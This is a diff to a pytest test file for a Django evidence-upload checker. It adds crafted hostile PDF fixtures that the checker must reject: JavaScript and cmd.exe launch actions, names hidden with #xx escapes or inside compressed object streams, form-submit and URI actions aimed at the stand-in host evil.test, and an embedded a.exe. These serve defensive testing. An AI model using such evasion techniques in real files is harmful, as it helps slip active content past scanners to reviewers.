@@ -16,16 +16,22 @@ from django.utils import timezone
 from assessments import services
 from assessments.evidence import EvidenceRejected, evidence_check, safe_display_name
 from assessments.models import Answer, AnswerEvent, AnswerState, EventKind, EvidenceFile
+from tests.pdf_samples import CATALOG, MINIMAL_PDF, PAGE, PAGES, pdf, pdf_with_object_stream
 
 pytestmark = pytest.mark.django_db
 
 # --- sample files ----------------------------------------------------------------------
 
-PDF = (
-    b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
-    b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n"
-    b"trailer << /Root 1 0 R >>\n%%EOF\n"
-)
+PDF = MINIMAL_PDF
+
+
+def pdf_catalog(extra: bytes, *, stream: bool = False, compress_xref: bool = False) -> bytes:
+    """A one-page PDF whose catalog carries `extra`, written plainly or inside
+    a compressed object stream."""
+    catalog = CATALOG.replace(b">>", extra + b" >>")
+    if stream:
+        return pdf_with_object_stream(catalog, PAGES, PAGE, compress_xref=compress_xref)
+    return pdf(catalog, PAGES, PAGE)
 
 
 def png() -> bytes:
@@ -154,6 +160,13 @@ def download_url(evidence, **query):
     ("name", "data", "content_type"),
     [
         ("Pergub 4 2023.pdf", PDF, "application/pdf"),
+        # Opening on a page is an action too, and a harmless one.
+        ("buka halaman.pdf", pdf_catalog(b"/OpenAction [3 0 R /Fit]"), "application/pdf"),
+        (
+            "terkompresi.pdf",
+            pdf_catalog(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>", stream=True),
+            "application/pdf",
+        ),
         ("tangkapan layar.png", png(), "image/png"),
         ("foto.jpg", JPEG, "image/jpeg"),
         ("animasi.gif", GIF, "image/gif"),
@@ -250,19 +263,57 @@ HOSTILE = [
     (
         "pdf-javascript",
         "aksi.pdf",
-        PDF.replace(
-            b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >>"
-        ),
+        pdf_catalog(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
         "JavaScript",
     ),
     (
         "pdf-launch",
         "luncur.pdf",
-        PDF.replace(
-            b"/Type /Catalog", b"/Type /Catalog /AA << /O << /S /Launch /F (cmd.exe) >> >>"
+        pdf_catalog(b"/AA << /O << /S /Launch /F (cmd.exe) >> >>"),
+        "JavaScript",
+    ),
+    # Names may be written with #xx escapes: /J#61vaScript is /JavaScript.
+    (
+        "pdf-escaped-name",
+        "escape.pdf",
+        pdf_catalog(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
+        "JavaScript",
+    ),
+    # The whole document inside a Flate-compressed object stream: no name is
+    # visible in the file's bytes.
+    (
+        "pdf-object-stream",
+        "objstm.pdf",
+        pdf_catalog(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", stream=True),
+        "JavaScript",
+    ),
+    (
+        "pdf-compressed-stream",
+        "kompres.pdf",
+        pdf_catalog(
+            b"/AA << /WC << /S /SubmitForm /F (https://evil.test/) >> >>",
+            stream=True,
+            compress_xref=True,
         ),
         "JavaScript",
     ),
+    (
+        "pdf-embedded-file",
+        "lampiran.pdf",
+        pdf_catalog(
+            b"/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) "
+            b"/EF << /F 4 0 R >> >>] >> >>",
+            stream=True,
+        ),
+        "JavaScript",
+    ),
+    (
+        "pdf-open-action-uri",
+        "uri.pdf",
+        pdf_catalog(b"/OpenAction << /S /URI /URI (https://evil.test/) >>", stream=True),
+        "JavaScript",
+    ),
+    ("pdf-unreadable", "rusak.pdf", b"%PDF-1.4\n1 0 obj << /S /Java", "tidak dapat diperiksa"),
     ("empty", "kosong.pdf", b"", "kosong"),
     ("unknown-binary", "acak.pdf", bytes(range(256)) * 4, "tidak dikenali"),
     ("plain-text", "catatan.txt", b"hanya teks biasa\n", "tidak dikenali"),
@@ -499,7 +550,10 @@ def test_inline_only_for_pdf_and_images(client, world):
     image = add(world, "b.png", png())
     document = add(world, "c.docx", docx())
     client.force_login(world.reviewer)
-    assert client.get(download_url(pdf, inline=True))["Content-Disposition"].startswith("inline")
+    response = client.get(download_url(pdf, inline=True))
+    assert response["Content-Disposition"].startswith("inline")
+    # A script that slipped past the check still cannot run in the preview.
+    assert "sandbox" in response["Content-Security-Policy"].split(";")[-1]
     response = client.get(download_url(image, inline=True))
     assert response["Content-Disposition"].startswith("inline")
     assert "sandbox" in response["Content-Security-Policy"]
